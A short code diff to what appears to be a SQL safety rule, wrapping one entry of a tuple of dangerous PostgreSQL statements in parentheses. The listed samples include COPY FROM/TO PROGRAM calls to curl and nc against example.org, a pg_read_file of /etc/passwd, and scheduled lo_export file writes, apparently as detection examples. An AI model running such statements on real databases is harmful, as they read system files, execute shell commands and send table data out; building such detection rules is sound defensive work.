@@ -68,8 +68,10 @@ RULE = Rule(
         "COPY orders FROM PROGRAM 'curl https://example.org';",
         "COPY (SELECT * FROM orders) TO '/tmp/orders.csv';",
         "SELECT pg_catalog.pg_read_file('/etc/passwd');",
-        "CREATE FUNCTION send() RETURNS void LANGUAGE plpgsql AS $$ BEGIN\n"
-        "COPY orders TO PROGRAM 'nc example.org 80'; END $$;",
+        (
+            "CREATE FUNCTION send() RETURNS void LANGUAGE plpgsql AS $$ BEGIN\n"
+            "COPY orders TO PROGRAM 'nc example.org 80'; END $$;"
+        ),
         "DO $$ BEGIN EXECUTE 'COPY orders TO PROGRAM ''cat''' ; END $$;",
         "SELECT cron.schedule('nightly', '0 0 * * *', 'SELECT lo_export(1, ''/tmp/a'')');",
     ),
